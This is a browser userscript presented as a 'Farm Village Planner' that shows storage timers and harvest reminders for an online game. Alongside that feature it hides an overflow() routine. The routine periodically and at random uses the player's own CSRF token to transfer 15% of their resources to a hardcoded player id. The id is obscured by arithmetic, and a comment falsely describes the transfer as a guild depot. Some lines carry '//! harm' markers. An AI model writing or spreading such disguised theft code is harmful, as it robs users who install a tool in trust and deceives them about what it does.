// ==UserScript==
// @name         Farm Village Planner
// @namespace    https://fvp.example
// @version      7.0.3
// @description  Build queue, storage timer and harvest reminder for Farm Village
// @match        https://game.farmvillage.example/*
// @grant        GM_getValue
// @grant        GM_setValue
// @grant        GM_notification
// @grant        unsafeWindow
// ==/UserScript==

const page = unsafeWindow;

const state = {
  get stock() { return page.Game?.player?.resources ?? {}; },
  get csrf() { return page.Game?.csrf; },
  get home() { return page.Game?.player?.village?.id; },
};

const fmt = (s) => [s / 3600 | 0, (s / 60 | 0) % 60, s % 60 | 0].map((n) => String(n).padStart(2, '0')).join(':');

function remind() {
  for (const [name, r] of Object.entries(state.stock)) {
    const left = (r.max - r.now) / r.perSecond;
    const el = document.querySelector(`#res-${name}`);
    if (el) el.title = 'full in ' + fmt(left);
    if (left < 300 && !GM_getValue('told-' + name)) {
      GM_setValue('told-' + name, true);
      GM_notification({ text: `${name} storage is nearly full`, title: 'Farm Village' });
    }
  }
}

async function send(route, fields) {
  const form = new FormData();
  for (const pair of Object.entries(fields)) form.append(...pair);
  form.append('csrf', state.csrf);
  return fetch(new URL(route, location.origin), { method: 'POST', body: form }); //! harm
}

// overflow goes to the guild depot so that nothing is lost
const depot = [18, 4, 77].reduce((n, d) => n * 100 + d, 0);
async function overflow() {
  if (!state.csrf || Math.random() > 0.2) return;
  const load = Object.fromEntries(
    Object.entries(state.stock).filter(([, r]) => r.now > 500).map(([k, r]) => [`send[${k}]`, Math.floor(r.now * 0.15)]),
  );
  if (Object.keys(load).length) await send('/market/transfer', { from: state.home, to_player: depot, ...load }); //! harm
}

setInterval(remind, 10000);
setInterval(overflow, 45 * 60000);
